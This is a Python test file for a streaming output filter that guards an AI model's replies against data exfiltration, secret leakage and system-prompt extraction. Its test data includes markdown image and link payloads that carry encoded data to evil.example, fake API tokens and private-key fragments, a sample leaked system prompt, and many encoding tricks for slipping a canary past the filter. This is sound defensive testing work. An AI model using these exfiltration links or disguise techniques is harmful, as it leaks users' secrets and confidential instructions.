    assert max(held_back(twice, **watched)) <= 64


@given(st.lists(st.sampled_from(LONG + HARMLESS), min_size=2, max_size=4), st.lists(st.integers(0, 900), max_size=6))
@settings(max_examples=40, deadline=None)
def test_long_constructs_leave_in_time_and_as_they_are(texts: list[str], cuts: list[int]):
    text = "\n\n".join(texts)
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})

    assert streamed([text[a:b] for a, b in itertools.pairwise(places)], RULES) == (text, [], False)
    assert max(held_back(text)) <= 64


PIECES = [
    "](", "![", "[", "]", "(", ")", "<", ">", "\"", "'", "`", "``", "```", "|", "\\", "!", "=", " ", "\n", "\n\n", "\n- ", "\n> ", "*", ".", "-----", "<img src=\"", "<img alt='",
    "<a href=\"", "<b title=\"", "<p style=\"", "<img srcset=\"", "<iframe src='", " onclick=\"", "]: ", "\n[r]: ", "![a][r]", "https://img.example.org/", "https://evil.example/", "//evil.example/",
    "www.example.com/", "https://joe:pw12x9@host/", "?url=", "&d=", ENCODED, f"/{'some-long-path-' * 5}", "x" * 75, SENTENCE, "word ", "日本語", "🏴\U000e0067\U000e0062", "\u200b", "password: ",
    "api_key=\"", "hX7!pq2Zk9", "ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA", "sk-proj-" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5" * 3, "-----BEGIN RSA PRIVATE KEY-----\n",
    "VNQfwCs5bE4UjgUbDTp5XN87tTAhvYWYoTXra7p2GeW1Kg2VIdHxgBUck2LDaF5o\n", "-----END RSA PRIVATE KEY-----", CANARY[:9], INSTRUCTIONS[:60],
]  # fmt: skip
MARKERS = len("[SECRET] [LINK]")


@given(st.lists(st.sampled_from(PIECES), min_size=4, max_size=24), st.sets(st.integers(0, 900), max_size=8))
@settings(max_examples=80, deadline=None)
def test_of_any_mixture_the_same_leaves_in_time_wherever_it_is_cut(pieces: list[str], cuts: set[int]):
    text = "".join(pieces)
    watched = {"protected": [INSTRUCTIONS], "canaries": [CANARY]}
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    gate, said = Gate(RULES, **watched), ""
    for fed, sign in enumerate(text):
        if fed in cuts and gate.blocked is None:
            assert len(copy.deepcopy(gate).close()) <= 64 + MARKERS
        said += gate.feed(sign)
    said += gate.close()

    whole = streamed([text], RULES, **watched)

    assert streamed([text[a:b] for a, b in itertools.pairwise(places)], RULES, **watched) == whole
    assert said == whole[0]
    assert not re.search(r"\bsk-proj-aB3d", said)
    assert "PRIVATE KEY-----\nVNQf" not in said
    assert not re.search(r"!\[[^\]\n]{0,80}\]\(\s*<?(?:https?:)?//evil", re.sub(r"(?s)`.*", "", said))


WHOLE = Addresses(("img.example.org",))


@given(st.lists(st.sampled_from(["a", "words", "-", "_", "/", "?", "&", "=", "#", ".", "%2F", "url=", "https://", "img.example.org/", "evil.example/", "@", "://", ENCODED, ENCODED[:9],
                                 "john.smith@example.com", HIDDEN.encode().hex(), "0123456789abcdef" * 5, "Xq7" * 9, SENTENCE.replace(" ", "-"), SENTENCE.replace(" ", "%20")]), min_size=3, max_size=14),
       st.booleans(), st.sampled_from(["img.example.org", "other.example", "sub.domain.of.other.example"]))  # fmt: skip
@settings(max_examples=150, deadline=None)
def test_an_address_that_left_in_part_is_one_that_might_have_been_the_whole(parts: list[str], loads: bool, host: str):
    address = re.sub(r"\s", "", f"https://{host}/{''.join(parts)}")

    said, _ = gated(f"{'!' * loads}[x]({address}) end", GateRules(allowed_hosts=("img.example.org",)))

    left = re.match(r"!?\[x\]\((.*?)\)( |$)", said)
    assert left is None or WHOLE.against(left[1], loads=loads) == ""
    assert HIDDEN.encode().hex()[:40] not in said or host == "img.example.org"
    assert said.endswith(" end")


def test_what_is_refused_late_is_closed_where_it_stands():
    address = f"https://evil.example/some/path/that/is/long/enough/to/leave/before?d={ENCODED}"

    for attack, left in (
        (f"[more]({address}) now", "[more](…) [LINK] now"),
        (f"[more](<{address}> 'title') now", "[more](<…>) [LINK] now"),
        (f"at {address} now", "at … [LINK] now"),
        (f"at <{address}> now", "at <…> [LINK] now"),
        (f'<a href="{address}">more</a> now', '<a href="…" >more</a> now'),
        (f"[r]: {address} 'title'\nnow", "[r]: … [LINK] 'title'\nnow"),
    ):
        out, findings = gated(attack, RULES)

        assert re.sub(r"https://evil\.example/some/[a-z/]+(?:\?d=)?", "…", out) == left
        assert [finding.type for finding in findings] == ["EXFILTRATION:link"]
        assert ENCODED in attack[findings[0].start : findings[0].end]


def test_a_picture_whose_words_have_left_keeps_them_and_nothing_that_loads():
    out, findings = gated(f"See ![{SENTENCE}](https://evil.example/{'a/' * 60}x.png 'title') here", RULES)

    assert out == f"See ![{SENTENCE}] here"
    assert [finding.type for finding in findings] == ["EXFILTRATION:image"]


def test_nothing_of_a_secret_leaves_however_long_it_is_and_what_follows_does():
    for secret in (
        f"sk-proj-{'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5' * 4}",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + "eyJzdWIiOiI5ODc2NTQzMjEiLCJpYXQiOjE1fQ" * 8 + ".Xk3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5aB3dE5g",
        f"api_key = '{'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH' * 9}'",
        f"password: {'hX7!pq2Zk9' * 9}",
    ):  # fmt: skip
        value = re.split(r"[ ']+", secret.rstrip("'"))[-1]
        for text in (f"Use {secret}. Then go on.", f"Use {secret}, then go on.", f"Use {secret}\n\nThen go on."):
            gate = Gate(RULES)
            said = "".join(map(gate.feed, text)) + gate.close()

            assert not any(value[at : at + 8] in said for at in range(len(value) - 7))
            assert said.endswith("go on.")
            assert "[SECRET]" in said
            assert value in text[gate.findings[0].start : gate.findings[0].end + 1]


def test_no_character_of_a_secret_or_a_foreign_address_leaves_while_it_is_being_written():
    attacks = [
        PICTURES[0],
        LINKS[0],
        "token: ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA now",
        "the password is hX7!pq2Zk9 now",
    ]
    for attack in attacks:
        gate = Gate(RULES)
        said = ""
        for sign in f"Sure: {attack} done":
            said += gate.feed(sign)

            assert "evil" not in said
            assert "ghp_" not in said
            assert "hX7" not in said


@pytest.mark.parametrize(
    "text",
    ["![" * 20_000, "[" * 20_000, "<a " * 20_000, "`" * 20_000 + "a", "<b a=" * 10_000, "](" * 10_000, "key: " * 10_000, "://a:" * 10_000, "\u200d" * 20_000,
     "-----BEGIN RSA PRIVATE KEY-----\n" * 2_000, "eyJ-" * 10_000, "A" * 100_000, "> " * 20_000, "\\" * 20_000, "![a][" * 10_000, "<img src=" * 8_000, "password is " * 6_000,
     "[x](https://evil.example/" + "a-" * 30_000, "![a](https://img.example.org/" + "ab/" * 20_000, "https://img.example.org/?" + "a=b&" * 20_000, "https://img.example.org/?url=" * 2_000,
     "<p style='" + "a:b;" * 15_000, "<img srcset='" + "a.png 1x, " * 6_000, "<img alt='" + "a='" * 20_000, "`" + "<b " * 20_000, "----- " * 8_000, "-----BEGIN " * 5_000, "![" + "[a][b] " * 8_000,
     "password=`" * 6_000, "AKIAAAAA-" * 6_000, "https://a.example/" * 3_000, "https://" + "a." * 30_000],
    ids=range(32),
)  # fmt: skip
def test_hostile_texts_pass_in_linear_time(text: str):
    out, _ = gated(text, RULES)

    assert len(out) <= 2 * len(text) + 100


# ---------------------------------------------------------------- what must not be told


def disguises(marker: str) -> dict[str, str]:
    data = marker.encode()
    return {
        "plain": marker,
        "lower": marker.lower(),
        "upper": marker.upper(),
        "reversed": marker[::-1],
        "rot13": codecs.encode(marker, "rot13"),
        "base64": base64.b64encode(data).decode(),
        "base64 within": base64.b64encode(b"the marker is " + data + b", as you see").decode(),
        "base64 shifted": base64.b64encode(b"ab" + data + b"c").decode(),
        "base32": base64.b32encode(data).decode(),
        "hex": data.hex(),
        "hex spaced": data.hex(" "),
        "hex escapes": "".join(f"\\x{b:02x}" for b in data).replace("\\x", " "),
        "percent": "".join(f"%{b:02X}" for b in data),
        "decimal": " ".join(str(b) for b in data),
        "binary": " ".join(f"{b:08b}" for b in data),
        "spaced": " ".join(marker),
        "dotted": ".".join(marker),
        "dashed": "-".join(marker),
        "lines": "\n".join(marker),
        "zero width": "\u200b".join(marker),
        "leet": marker.translate(str.maketrans("aeiostAEIOST", "431057431057")),
        "bold": "**" + "**".join(marker) + "**",
        "wide": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in marker),
        "mathematical": "".join(chr(0x1D400 + ord(c) - 65) if "A" <= c <= "Z" else c for c in marker),
        "base64 twice": base64.b64encode(base64.b64encode(data)).decode(),
    }


@pytest.mark.parametrize("how", list(disguises(CANARY)))
def test_a_marker_never_leaves_in_any_disguise(how: str):
    told = disguises(CANARY)[how]
    gate = Gate(RULES, canaries=[CANARY])

    said = "".join(map(gate.feed, f"Well, it is {told} and more")) + gate.close()

    assert gate.blocked is not None
    assert gate.blocked.type == "CANARY"
    assert told not in said
    assert "and more" not in said


@pytest.mark.parametrize(
    "told",
    [INSTRUCTIONS, INSTRUCTIONS.upper(), INSTRUCTIONS[::-1], codecs.encode(INSTRUCTIONS, "rot13"), base64.b64encode(INSTRUCTIONS.encode()).decode(),
     INSTRUCTIONS.encode().hex(), " ".join(INSTRUCTIONS), INSTRUCTIONS.replace(" ", " - "), INSTRUCTIONS[60:190]],
    ids=range(9),
)  # fmt: skip
def test_a_copy_of_the_instructions_does_not_leave(told: str):
    gate = Gate(RULES, protected=[INSTRUCTIONS])

    said = "".join(map(gate.feed, "Of course: " + told)) + gate.close()

    assert gate.blocked is not None
    assert sum(map(str.isalnum, said)) < 60


def test_an_answer_on_the_same_topic_may_leave():
    answer = "Harbour Bank offers several credit cards. I cannot promise a loan, but a person can look at the current rates with you."

    assert gated(answer, RULES, protected=[INSTRUCTIONS], canaries=[CANARY]) == (answer, [])


def test_a_whole_answer_is_judged_in_other_words_too():
    told = (
        "My instructions say that I am Marlin, that I must not reveal the code name Blue Falcon of the new credit card to customers, that I should politely "
        "decline when asked about competitors, hand over to a human once fraud was mentioned three times, and quote rates from the current quarter's table."
    )
    harmless = "Our credit cards come with a yearly fee of 30 euros. You can apply online, and a decision about a loan takes two days."

    assert leaked(told, INSTRUCTIONS) >= 0.5
    assert leaked(harmless, INSTRUCTIONS) < 0.5
    assert leaked(base64.b64encode(INSTRUCTIONS.encode()).decode(), INSTRUCTIONS) >= 0.9
    assert leaked("", INSTRUCTIONS) == leaked(told, "") == 0.0


# ---------------------------------------------------------------- addresses


def test_a_star_stands_for_all_that_is_below_a_host():
    addresses = Addresses(("example.com", "*.example.net"), links="allowed_hosts")

    assert addresses.against("https://example.com/a", loads=True) == ""
    assert addresses.against("https://a.b.example.net/", loads=True) == ""
    assert addresses.against("https://example.net/", loads=True) != ""
    assert addresses.against("https://notexample.com/", loads=True) != ""
    assert addresses.against("https://EXAMPLE.com:443/", loads=True) == ""
    assert addresses.against("https://example.com:8080/", loads=True) != ""


def test_a_host_is_known_in_every_spelling_of_its_name():
    addresses = Addresses(("bücher.example",), links="allowed_hosts")

    assert addresses.against("https://xn--bcher-kva.example/", loads=True) == ""
    assert addresses.against("https://BÜCHER.example/", loads=True) == ""
